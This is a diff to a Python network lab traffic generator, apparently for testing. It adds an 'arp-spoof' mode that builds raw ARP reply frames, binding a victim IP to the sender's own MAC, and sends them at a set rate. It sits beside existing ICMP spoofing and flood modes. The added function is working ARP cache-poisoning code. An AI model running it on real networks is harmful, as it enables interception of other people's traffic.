@@ -3,6 +3,7 @@
     python lab/traffic.py tcp-server ADDR PORT SECONDS
     python lab/traffic.py tcp-client ADDR PORT SECONDS INTERVAL_MS
     python lab/traffic.py spoof IFNAME DSTMAC SRC DST SECONDS RATE
+    python lab/traffic.py arp-spoof IFNAME DSTMAC SRC SECONDS RATE
     python lab/traffic.py udp-echo ADDR PORT SECONDS
     python lab/traffic.py udp-stream ADDR PORT SECONDS RATE
     python lab/traffic.py flood ADDR PORT SECONDS
@@ -30,6 +31,9 @@ when it is sent SIGTERM.
 `spoof` plays an attacker: it sends forged ICMP echo replies from SRC to DST
 (a test address) with guessed ids, sequence numbers and payloads, RATE per
 second, straight onto the wire of IFNAME.
+
+`arp-spoof` forges ARP replies: from SRC's IP with the attacker's own MAC,
+to DSTMAC, as answers to the address-less ARP probes, RATE per second.
 
 Every loop is bounded by SECONDS.
 """
@@ -196,6 +200,23 @@ def flood(addr: str, port: int, seconds: float) -> None:
     print(json.dumps({"sent": sent}), flush=True)
 
 
+def arp_spoof(ifname: str, dstmac: str, src: str, seconds: float, rate: int) -> None:
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((ifname, 0x0806))
+    own = sock.getsockname()[4]
+    dst = bytes.fromhex(dstmac.replace(":", ""))
+    frame = (dst + own + b"\x08\x06" + b"\x00\x01\x08\x00\x06\x04\x00\x02" + own
+             + socket.inet_aton(src) + dst + bytes(4))
+    print("spoofing", flush=True)
+    sent = 0
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        sock.send(frame)
+        sent += 1
+        time.sleep(1 / rate)
+    print(json.dumps({"sent": sent}), flush=True)
+
+
 def hog(seconds: float) -> None:
     print("hogging", flush=True)
     deadline = time.monotonic() + seconds
@@ -305,6 +326,10 @@ def main(argv: list[str]) -> None:
     if cmd == "spoof":
         ifname, dstmac, src, dst, seconds, rate = args
         spoof(ifname, dstmac, src, dst, float(seconds), int(rate))
+        return
+    if cmd == "arp-spoof":
+        ifname, dstmac, src, seconds, rate = args
+        arp_spoof(ifname, dstmac, src, float(seconds), int(rate))
         return
     if cmd == "hog":
         hog(float(args[0]))
